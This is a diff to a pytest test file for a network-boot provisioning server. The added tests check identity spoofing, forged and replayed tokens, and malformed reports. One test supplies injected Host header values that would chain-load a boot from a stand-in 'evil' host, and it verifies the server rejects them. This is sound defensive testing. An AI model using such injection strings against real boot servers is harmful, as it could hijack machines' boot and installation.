@@ -4,9 +4,10 @@ import hashlib
 import io
 import json
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from contextlib import closing
 from pathlib import Path
+from types import MappingProxyType
 from urllib.parse import urlencode
 
 import pytest
@@ -18,6 +19,8 @@ from lambda_matchbox.http import Request, Response
 from lambda_matchbox.machines.identities import Identities
 from lambda_matchbox.machines.policy import Policy
 from lambda_matchbox.machines.state import MachineState, approved, armed, held
+from lambda_matchbox.machines.stores import ChangedError
+from lambda_matchbox.machines.tokens import token_for
 from lambda_matchbox.web.alb import BODY_LIMIT
 from lambda_matchbox.web.app import App
 from lambda_matchbox.web.routes import Routes, Stores
@@ -45,6 +48,7 @@ class Server:
 
     def __init__(self, policy: Policy | None, root: Path) -> None:
         self.now = NOW
+        self.host = "boot.example"
         self.machines = DirectoryMachines(root, lambda: self.now)
         self._log = io.StringIO()
         group = Group("g", profile="p", boot=policy)
@@ -58,8 +62,16 @@ class Server:
         self, path: str, address: str = HOME, method: str = "GET", named: Identities = NODE, **labels: str
     ) -> Response:
         query = urlencode({name: value for name, value in (named._asdict() | labels).items() if value})
-        headers = {"host": "boot.example", "x-forwarded-for": address}
-        return self._app.respond(Request(method, f"/{path}", query, headers))
+        return self._ask(method, f"/{path}", query, {"x-forwarded-for": address})
+
+    def report(self, token: str, state: str) -> Response:
+        return self._ask("GET", "/report", urlencode({**NODE._asdict(), "token": token, "state": state}))
+
+    def ranged(self, path: str, wanted: str) -> Response:
+        return self._ask("GET", path, urlencode(NODE._asdict()), {"range": wanted})
+
+    def _ask(self, method: str, path: str, query: str, headers: Mapping[str, str] = MappingProxyType({})) -> Response:
+        return self._app.respond(Request(method, path, query, {"host": self.host, "x-forwarded-for": HOME, **headers}))
 
     @property
     def line(self) -> dict[str, object]:
@@ -141,7 +153,7 @@ def test_a_known_identity_stays_the_machines(server: Server) -> None:
     assert state is not None
     server.set(armed(state, NOW + 60, "b"))
     other = NODE._replace(uuid=UUID.replace("4c4c", "5d5d"))
-    assert server.get("generic", named=other).status == 200
+    assert server.get("generic", named=other).body == b"one of its identities is another machine's\n"
     assert b"is another machine's" in server.get("ipxe", named=Identities("52:54:00:00:00:ff", UUID)).body
     found = server.state
     assert found is not None
@@ -266,3 +278,90 @@ def test_an_installation_is_done_when_it_is_reported(server: Server) -> None:
 def test_a_report_of_a_machine_without_a_policy_is_logged(server: Server) -> None:
     assert server.get("report").status == 200
     assert (server.line["route"], server.state) == ("/report", None)
+
+
+OTHER = Identities("52:54:00:00:00:01", UUID.replace("4c4c", "5d5d"))
+
+
+@policy(approve=True, once=True, token=True)
+def test_an_approved_machines_identity_gets_nothing_for_another(server: Server) -> None:
+    server.set(approved(MachineState(NODE), NOW))
+    for named in (OTHER._replace(mac=MAC), NODE._replace(uuid=OTHER.uuid), OTHER._replace(uuid=UUID)):
+        assert b"is another machine's" in server.get("ipxe", named=named).body
+        assert server.get("generic", named=named, token=server.token()).status == 403
+
+
+@policy(approve=True)
+def test_a_token_that_nobody_verifies_names_no_machine(server: Server) -> None:
+    server.set(approved(MachineState(NODE), NOW))
+    forged = token_for({1: b"x"}, NODE, "g", "", NOW)
+    for named in (Identities(), OTHER):
+        assert server.get("generic", named=named, token=forged).status in (403, 503)
+    server.groups.put(Group("b", profile="p", selector={"mac": OTHER.mac}, boot=Policy(approve=True)))
+    forged = token_for({1: b"x"}, OTHER, "b", "", NOW)
+    server.get("generic", named=Identities(), Mac=MAC, token=forged)
+    assert server.line["group"] == "g"
+
+
+@policy(once=True, token=True, done="report")
+def test_an_installed_machine_gets_nothing_against_a_script_from_before(server: Server) -> None:
+    token = server.token()
+    server.get("generic", token=token)
+    second = server.token()
+    server.get("report", token=token)
+    assert server.get("generic", ELSEWHERE, token=second).status == 403
+    state = server.state
+    assert state is not None
+    server.set(armed(state, NOW + 60, "b"))
+    third = server.token()
+    server.now += 61
+    assert server.get("generic", token=third).body == b"it is installed\n"
+
+
+@policy(token=True)
+@pytest.mark.parametrize("host", ['x"; chainloader (http,evil)/x; echo "', "evil/ ; chain http://evil", "a\nb", ""])
+def test_a_host_that_is_no_name_stands_in_no_script(server: Server, host: str) -> None:
+    server.host = host
+    for route in ("ipxe", "grub"):
+        script = server.get(route).body
+        assert b"the Host header of its request is no host name" in script
+        assert not host or host.encode() not in script
+
+
+@policy(once=True, token=True, done="report")
+def test_head_reports_nothing(server: Server) -> None:
+    token = server.token()
+    server.get("generic", token=token)
+    assert server.get("report", method="HEAD", token=token).status == 200
+    assert server.state is not None
+    assert not server.state.installed
+
+
+@policy(once=True, token=True, done="report")
+@pytest.mark.parametrize("state", ["failed\n", "failed" + "x" * 300, "${state}", ""])
+def test_a_state_that_is_none_reports_no_installation(server: Server, state: str) -> None:
+    token = server.token()
+    server.get("generic", token=token)
+    assert server.report(token, state).status == 403
+    assert server.state is not None
+    assert not server.state.installed
+
+
+@policy(once=True)
+def test_what_is_not_sent_is_no_delivery(server: Server) -> None:
+    assert server.ranged("/generic", "bytes=100-").status == 416
+    assert server.state is None
+
+
+@policy(once=True)
+def test_a_policy_that_changes_meanwhile_counts(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A write that comes too late is decided anew, by the policy of that moment."""
+    write = server.machines.write
+
+    def too_late(before: MachineState | None, after: MachineState) -> None:
+        server.groups.put(Group("g", profile="p", boot=Policy(approve=True)))
+        monkeypatch.setattr(server.machines, "write", write)
+        raise ChangedError
+
+    monkeypatch.setattr(server.machines, "write", too_late)
+    assert server.get("generic").body == b"it waits for approval\n"
